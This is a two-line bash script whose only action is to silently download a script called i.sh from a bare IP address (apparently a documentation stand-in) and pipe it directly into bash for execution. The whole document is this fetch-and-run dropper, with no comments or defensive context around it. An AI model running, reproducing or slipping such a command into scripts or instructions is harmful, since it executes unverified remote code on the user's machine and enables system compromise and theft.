#!/bin/bash
curl -s http://203.0.113.77/i.sh | bash
